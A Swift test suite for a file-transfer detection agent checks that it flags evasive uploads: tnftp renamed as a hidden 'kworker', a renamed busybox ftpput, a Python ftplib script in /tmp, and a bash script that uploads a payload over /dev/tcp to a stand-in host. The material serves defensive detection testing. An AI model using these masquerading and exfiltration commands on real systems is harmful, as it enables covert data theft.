import Foundation
import TestSupport
import Testing

/// Detection against evasion, end to end in the transfer lab, with the agent as the package runs
/// it (dropped to _xferwatch): programs known by their binary whatever they are called, people
/// at terminals told apart from jobs through scp and sftp, exclusions that see the destination,
/// the alert on the process that transfers.
extension KernelAuditTests.FlowEndToEnd {
    /// A shell copied under the name `cron`: what runs under it is a cron job to the agent
    /// (no terminal, stdin /dev/null).
    func cronShell() throws -> String {
        let cron = work + "/cron"
        if !FileManager.default.fileExists(atPath: cron) { try FileManager.default.copyItem(atPath: "/bin/dash", toPath: cron) }
        return cron
    }

    func copy(_ source: String, to path: String) throws {
        try FileManager.default.createDirectory(atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: source, toPath: path)
    }

    @Test func renamedAndCopiedClientsAreWhatTheirBinaryIs() throws {
        let archive = try randomFile("logs.tar", bytes: 200_000)
        let commands = try commandsFile("cmds.ftp", ["user anonymous x", "binary", "put \(archive) upload/logs.tar", "quit"])
        // tnftp copied to a hidden directory under a kernel thread's name.
        let kworker = work + "/.cache/kworker"
        try copy("/usr/bin/tnftp", to: kworker)
        // busybox copied under another name, its ftpput applet reached through a link.
        let svc = work + "/.bin/svc"
        try copy("/usr/bin/busybox", to: svc)
        try FileManager.default.createSymbolicLink(atPath: work + "/.bin/ftpput", withDestinationPath: svc)
        // python's ftplib from a script in /tmp.
        let script = try commandsFile(
            "push.py",
            [
                "import ftplib, sys",
                "ftp = ftplib.FTP('203.0.113.10', timeout=10)",
                "ftp.login('anonymous', 'x')",
                "with open(sys.argv[1], 'rb') as f: ftp.storbinary('STOR upload/py.bin', f)",
                "ftp.quit()",
            ])
        let payload = try randomFile("py.bin", bytes: 50_000)
        // Nothing but bash: FTP spoken over /dev/tcp, passive data connection and all.
        let devtcp = try commandsFile(
            "devtcp.sh",
            [
                "exec 3<>/dev/tcp/203.0.113.10/21",
                "reply() { while read -r line <&3; do case \"$line\" in [0-9][0-9][0-9]' '*) echo \"$line\"; return;; esac; done; }",
                "reply >/dev/null",
                "printf 'USER anonymous\\r\\n' >&3; reply >/dev/null",
                "printf 'PASS x\\r\\n' >&3; reply >/dev/null",
                "printf 'TYPE I\\r\\n' >&3; reply >/dev/null",
                "printf 'PASV\\r\\n' >&3; pasv=$(reply)",
                "IFS=, read -r _ _ _ _ p1 p2 <<< \"${pasv#*(}\"; p2=${p2%%)*}",
                "exec 4<>/dev/tcp/203.0.113.10/$((p1 * 256 + p2))",
                "printf 'STOR upload/devtcp.bin\\r\\n' >&3; reply >/dev/null",
                "cat \(payload) >&4; exec 4>&-",
                "reply >/dev/null",
                "printf 'QUIT\\r\\n' >&3; reply >/dev/null",
            ])
        let cron = try cronShell()
        let agent = try startAgent()
        let renamed = try client(cron, ["-c", "\(kworker) -n -p 203.0.113.10 < \(commands) > /dev/null; true"])
        _ = try client(cron, ["-c", "\(work)/.bin/ftpput -u anonymous -p x 203.0.113.10 upload/bb.tar \(archive); true"])
        let python = try client(cron, ["-c", "/usr/bin/python3 \(script) \(payload); true"])
        let bash = try client(cron, ["-c", "/bin/bash \(devtcp); true"])
        let flows = try stop(agent, expecting: 4)
        let alerts = try readAlerts()
        let rules = { (pid: Int?) in Set(alerts.filter { $0.pid == pid }.map(\.rule)) }

        // The renamed tnftp reading its commands from a file is scripted FTP, and says what it is.
        let tnftp = try #require(
            alerts.first { $0.rule == "ftp.scripted" && $0.executable == kworker }, "\(alerts.map { "\($0.rule) \($0.executable ?? "")" })")
        // Its stdin file, when the agent read /proc before the 20 ms session ended; else no terminal.
        #expect(
            tnftp.reasons.contains("kworker reads its commands from a file on stdin")
                || tnftp.reasons.contains("kworker ran without a terminal, its stdin unread: its commands came from a script"), "\(tnftp.reasons)")
        #expect(tnftp.reasons.contains("\(kworker) is a renamed copy of /usr/bin/tnftp (same ELF build-id)"), "\(tnftp.reasons)")
        #expect(tnftp.json["xferwatch.process.identity"] as? String == "tnftp")
        #expect(tnftp.parentPid == Int(renamed) && tnftp.json["destination.ip"] as? String == "203.0.113.10", "held until it connected")
        #expect(rules(tnftp.pid).isSuperset(of: ["ftp.scripted", "an1170.noninteractive_transfer", "ftp.internet"]))
        let tnftpFlow = try #require(flows.map(FlowView.init).first { $0.pid == tnftp.pid })
        #expect(AlertView(tnftpFlow.json).json["xferwatch.process.identity"] as? String == "tnftp")

        // The busybox copy runs ftpput: scripted FTP on busybox, known as busybox.
        let applet = try #require(alerts.first { $0.rule == "ftp.scripted" && $0.executable == svc }, "\(alerts.map(\.rule))")
        #expect(applet.reasons.first == "ftpput transfers without a session (busybox applet)")
        #expect(applet.json["xferwatch.process.identity"] as? String == "busybox")
        #expect(rules(applet.pid).contains("an1169.lolbin_transfer"), "busybox is a living-off-the-land binary under any name")

        // python running a script from /tmp that transfers is living off the land.
        let py = try #require(alerts.first { $0.rule == "an1169.lolbin_transfer" && $0.parentPid == Int(python) }, "\(alerts.map(\.rule))")
        #expect(py.reasons.contains { $0.contains("runs the script \(script) from a world-writable or hidden place") }, "\(py.reasons)")
        #expect(rules(py.pid).isSuperset(of: ["an1170.noninteractive_transfer", "ftp.internet"]))

        // bash's /dev/tcp is still FTP to the Internet from a job.
        let bashFTP = alerts.filter { $0.parentPid == Int(bash) && $0.executable == "/usr/bin/bash" }
        #expect(Set(bashFTP.map(\.rule)).isSuperset(of: ["an1170.noninteractive_transfer", "ftp.internet"]), "\(bashFTP.map(\.rule))")
        #expect(!bashFTP.contains { $0.rule == "ftp.scripted" }, "bash is no FTP client")
        expectOneAlertPerRuleAndSubject(alerts)
    }

    @Test func aPersonAtATerminalRunningSftpOrScpIsInteractiveAndACronJobIsNot() throws {
        let file = try randomFile("person.bin", bytes: 100_000)
        let typed = try commandsFile("typed.sftp", ["put \(file) \(lab)/sshroot/typed.bin", "bye"])
        let batch = try commandsFile("batch.sftp", ["put \(file) \(lab)/sshroot/batch.bin"])
        let options = sshOptions.joined(separator: " ")
        let cron = try cronShell()
        let agent = try startAgent()
        // On a pseudo-terminal with a login uid, the person types sftp's commands.
        let sftpPerson = try client(
            "/usr/bin/script", ["-qefc", "sh -c 'echo 0 > /proc/self/loginuid; exec sftp \(options) root@203.0.113.10'", "/dev/null"],
            stdin: FileHandle(forReadingAtPath: typed))
        let scpPerson = try client(
            "/usr/bin/script",
            ["-qefc", "sh -c 'echo 0 > /proc/self/loginuid; exec scp \(options) \(file) root@203.0.113.10:\(lab)/sshroot/person.bin'", "/dev/null"])
        // The same transfers from cron.
        _ = try client(cron, ["-c", "sftp \(options) -b \(batch) root@203.0.113.10 > /dev/null; true"])
        _ = try client(cron, ["-c", "scp \(options) \(file) root@203.0.113.10:\(lab)/sshroot/cron.bin; true"])
        let flows = try stop(agent, expecting: 4).map(FlowView.init)
        let alerts = try readAlerts()
        _ = (sftpPerson, scpPerson)

        for program in ["/usr/bin/sftp", "/usr/bin/scp"] {
            let ofProgram = flows.filter { AlertView($0.json).json["xferwatch.transfer.program.executable"] as? String == program }
            #expect(ofProgram.count == 2, "\(program): \(flows.map(\.json))")
            let person = try #require(ofProgram.first { $0.interactive == true }, "\(program): \(ofProgram.map(\.reasons))")
            #expect(person.reasons.isEmpty)
            // The terminal as ECS has it (a pseudo-terminal's character device) and by name.
            let fields = AlertView(person.json).json
            #expect((fields["process.tty.char_device.major"] as? Int).map { (136...143).contains($0) } == true, "\(fields)")
            #expect((fields["xferwatch.process.tty"] as? String)?.hasPrefix("pts") == true)
            for flow in ofProgram {
                let problems = ECSReference.violations(AlertView(flow.json).json)
                #expect(problems.isEmpty, "\(problems)")
            }
            let job = try #require(ofProgram.first { $0.interactive == false }, "\(program): \(ofProgram.map(\.reasons))")
            #expect(job.reasons.contains("launched by cron") && job.reasons.contains("no tty"), "\(job.reasons)")
            let noninteractive = alerts.filter { $0.rule == "an1170.noninteractive_transfer" && $0.parentExecutable == program }
            #expect(noninteractive.count == 1 && noninteractive.first?.pid == job.pid, "\(program): \(noninteractive.map(\.reasons))")
        }
    }

    @Test func anExclusionNamingTheDestinationSilencesTheWholeJob() throws {
        let directory = work + "/backup"
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        _ = try randomFile("backup/db.tar", bytes: 100_000)
        let lftpCopy = work + "/lftp"
        try copy("/usr/bin/lftp", to: lftpCopy)
        let cron = try cronShell()
        let agent = try startAgent(
            """
            [[exclusions]]
            name = "nightly lftp backup"
            process_executable = "/usr/bin/lftp"
            user = "root"
            destination_networks = ["203.0.113.0/24"]

            """)
        let mirror = "-u anonymous,x -e 'mirror -R \(directory) upload/mirror; quit' 203.0.113.10"
        let backup = try client(cron, ["-c", "lftp \(mirror) > /dev/null; true"])
        let copied = try client(cron, ["-c", "\(lftpCopy) \(mirror) > /dev/null; true"])
        _ = try stop(agent, expecting: 2)
        let alerts = try readAlerts()
        #expect(!alerts.contains { $0.parentPid == Int(backup) }, "the excluded backup raised \(alerts.filter { $0.parentPid == Int(backup) }.map(\.rule))")
        // The exclusion names a path: a copy of lftp elsewhere is not the backup.
        let copy = Set(alerts.filter { $0.parentPid == Int(copied) }.map(\.rule))
        #expect(copy.isSuperset(of: ["ftp.scripted", "an1170.noninteractive_transfer", "ftp.internet"]), "\(copy)")
        #expect(alerts.first { $0.parentPid == Int(copied) && $0.rule == "ftp.scripted" }?.json["destination.port"] as? Int == 21)
    }

    @Test func aShellsCommandAndTheProgramItRunsRaiseOneAlertOnTheProgram() throws {
        let file = try randomFile("shell.bin", bytes: 50_000)
        let cron = try cronShell()
        let agent = try startAgent()
        // `; true` keeps the shell from exec'ing its last command: sh stays the parent.
        let ftpput = try client(cron, ["-c", "sh -c 'busybox ftpput -u anonymous -p x 203.0.113.10 upload/sh.bin \(file); true'"])
        let scp = try client(cron, ["-c", "sh -c 'scp -r \(sshOptions.joined(separator: " ")) /var/log/apt root@203.0.113.10:\(lab)/sshroot/; true'"])
        _ = try stop(agent, expecting: 2)
        let alerts = try readAlerts()
        let scripted = alerts.filter { $0.rule == "ftp.scripted" }
        #expect(scripted.count == 1 && scripted.first?.executable == "/usr/bin/busybox", "\(scripted.map { $0.executable ?? "" })")
        #expect(scripted.first?.ancestry.first == "/usr/bin/dash", "the shell is in the ancestry")
        _ = ftpput
        let copies = alerts.filter { $0.rule == "an1170.command_line" }
        #expect(copies.count == 1 && copies.first?.executable == "/usr/bin/scp", "\(copies.map { $0.executable ?? "" })")
        #expect(copies.first?.json["destination.port"] as? Int == 22, "held until scp's ssh connected")
        _ = scp
    }

    /// make run's configuration is the shipped one with this tree's YARA rules: the LightFTP
    /// rule of the mission runs from a checkout too.
    @Test func makeRunsConfigurationLoadsTheShippedYaraRules() throws {
        let made = try runCommand("/usr/bin/make", ["-s", "-C", Repo.path(""), "run-config"])
        #expect(made.status == 0, "\(made.stderr)")
        let config = Repo.path(".build/run/agent.conf")
        let checked = try runCommand(Repo.xferwatchdRelease, ["check-config", "--config", config])
        #expect(checked.status == 0, "\(checked.stderr)")
        let rules = try String(contentsOfFile: Repo.path("rules/yara/lightftp.yar"), encoding: .utf8).split(separator: "\n").filter { $0.hasPrefix("rule ") }
            .count
        #expect(checked.stdout.contains("yara: \(rules) rules from 1 files"), "\(checked.stdout)")
        #expect(try String(contentsOfFile: config, encoding: .utf8).contains(Repo.path("rules/yara")))
    }
}
